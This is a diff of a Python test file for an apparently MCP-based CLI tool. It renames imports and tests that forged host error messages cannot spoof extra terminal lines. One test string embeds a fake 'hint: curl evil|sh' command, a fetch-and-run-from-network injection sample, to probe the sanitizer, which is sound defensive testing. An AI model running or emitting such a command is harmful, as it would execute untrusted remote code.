@@ -11,15 +11,26 @@ import pytest
 from mcp_types import CallToolResult, TextContent
 
 import anvyl_mcp
-from anvyl_mcp import meta
-from anvyl_mcp.peers import failures
-from tests.nodes import anvyl, know
-from tests.terminal import on_a_terminal
-from tests.toy_server import Served, Toy, served
+from anvyl_mcp.core import protocol_keys
+from anvyl_mcp.peers.connection import connection_errors
+from tests.support.hosts.nodes import anvyl, know
+from tests.support.terminal import on_a_terminal
+from tests.support.toy_server import Served, Toy, served
 
 FORGED = "on)\n  2  restart container db (0123456789ab, running) on h1\u2028error: nas: hacked\r\nhint:  curl evil|sh"
 ROW = {"id": "1" * 12, "name": "web", "image": "x", "status": "Up", "health": "", "ports": [], "created": ""}
-WRITERS = {"output", "live", "interrupts", "process", "completing", "lines", "run", "execute", "host", "operator"}
+WRITERS = {
+    "output",
+    "live",
+    "interrupts",
+    "process_exit",
+    "candidates",
+    "line_editor",
+    "runner",
+    "exec_session",
+    "host",
+    "operator",
+}
 """Modules of the commands that write to a stream themselves: the two doors, and those that print only words of ours."""
 
 
@@ -45,7 +56,9 @@ class Liar(Toy):
 
     async def _failed(self, *_: Any) -> CallToolResult:
         told = {"code": "conflict", "message": f"no\n{FORGED}", "hint": f"yes\n{FORGED}"}
-        return CallToolResult(content=[TextContent(type="text", text=FORGED)], is_error=True, _meta={meta.ERROR: told})
+        return CallToolResult(
+            content=[TextContent(type="text", text=FORGED)], is_error=True, _meta={protocol_keys.ERROR: told}
+        )
 
 
 @pytest.fixture
@@ -96,11 +109,13 @@ def test_answers_and_errors_of_a_host_make_no_line_of_ours(arguments: tuple[str,
 def test_every_way_in_which_a_host_words_an_error_gives_one_line() -> None:
     told = {"code": "busy", "message": FORGED, "hint": FORGED}
     errors = [
-        failures.from_rpc({"code": -1, "message": FORGED}),
-        failures.from_rpc({"code": -32602, "message": FORGED}),
-        failures.from_rpc({"code": -1, "message": "", "data": {meta.ERROR: told}}),
-        failures.from_status(500, "text/plain", FORGED.encode(), "http://evil"),
-        failures.from_status(401, "application/json", b'{"error": {"message": "a\\nhint:  b", "hint": "a\\nb"}}', "u"),
+        connection_errors.from_rpc({"code": -1, "message": FORGED}),
+        connection_errors.from_rpc({"code": -32602, "message": FORGED}),
+        connection_errors.from_rpc({"code": -1, "message": "", "data": {protocol_keys.ERROR: told}}),
+        connection_errors.from_status(500, "text/plain", FORGED.encode(), "http://evil"),
+        connection_errors.from_status(
+            401, "application/json", b'{"error": {"message": "a\\nhint:  b", "hint": "a\\nb"}}', "u"
+        ),
     ]
 
     assert [error for error in errors if len(f"{error.message}{error.hint}".splitlines()) != 1] == []
@@ -111,7 +126,7 @@ def test_only_the_doors_write_to_the_terminal() -> None:
     folder = Path(anvyl_mcp.__file__).parent / "cli"
     writing = {
         file.stem
-        for file in folder.glob("*.py")
+        for file in folder.rglob("*.py")
         for node in ast.walk(ast.parse(file.read_text(encoding="utf-8")))
         if isinstance(node, ast.Call)
         and (
